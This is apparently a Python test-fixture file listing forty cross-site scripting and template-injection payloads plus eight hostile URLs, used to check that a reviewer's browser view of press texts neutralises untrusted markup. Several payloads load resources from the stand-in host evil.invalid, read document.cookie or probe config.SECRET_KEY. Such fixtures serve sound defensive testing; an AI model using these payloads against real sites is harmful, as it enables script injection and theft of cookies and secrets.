"""Forty ways in which a text of the press, or of somebody else, might try to run in a reviewer's browser.

Refuses subtlety: each one, if it ran, would open a dialog, ask another host, or set `window.pwned`.
"""

from __future__ import annotations

ELSEWHERE = "//evil.invalid"

PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<script src=//evil.invalid/x.js></script>",
    "<script>alert(document.cookie)</script>",
    "</script><script>window.pwned=2</script>",
    "<img src=x onerror=window.pwned=3>",
    "<img src=//evil.invalid/pixel.gif>",
    "<svg onload=window.pwned=4>",
    "<svg><script>window.pwned=5</script></svg>",
    "<svg><animate onbegin=window.pwned=6 attributeName=x dur=1s>",
    "<iframe src=javascript:window.parent.pwned=7></iframe>",
    "<iframe srcdoc='<script>parent.pwned=8</script>'></iframe>",
    "<body onload=window.pwned=9>",
    "<details open ontoggle=window.pwned=10>",
    "<video><source onerror=window.pwned=11></video>",
    "<input autofocus onfocus=window.pwned=12>",
    "<a href=javascript:window.pwned=13>click</a>",
    "<form action=//evil.invalid><button>send</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid'>",
    "<base href=//evil.invalid/>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>@import '//evil.invalid/y.css';</style>",
    "<object data=//evil.invalid/o></object>",
    "<embed src=//evil.invalid/e>",
    "<math><mi xlink:href=javascript:window.pwned=14>x</mi></math>",
    '" onmouseover="window.pwned=15',
    "' autofocus onfocus='window.pwned=16",
    '"><script>window.pwned=17</script>',
    "'><img src=x onerror=window.pwned=18>",
    "--><script>window.pwned=19</script>",
    "]]><script>window.pwned=20</script>",
    "</textarea><script>window.pwned=21</script>",
    "</title><script>window.pwned=22</script>",
    "</style><script>window.pwned=23</script>",
    "{{ 7 * 7 }}{{ config.SECRET_KEY }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${window.pwned=24}`${window.pwned=25}`",
    "javascript:window.pwned=26//",
    "\u202e<script>window.pwned=27</script>",
    "&lt;script&gt;window.pwned=28&lt;/script&gt;",
    "%3Cscript%3Ewindow.pwned=29%3C/script%3E",
)

ADDRESSES = (
    "javascript:window.pwned=30", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)",
    "data:text/html,<script>window.pwned=31</script>", "vbscript:msgbox(1)",
    'https://herald.example/"onmouseover="window.pwned=32', "https://herald.example/'><script>window.pwned=33</script>",
)  # fmt: skip
"""Addresses of stories that a crawl of ours would not keep, but that a file of somebody else's may bring."""
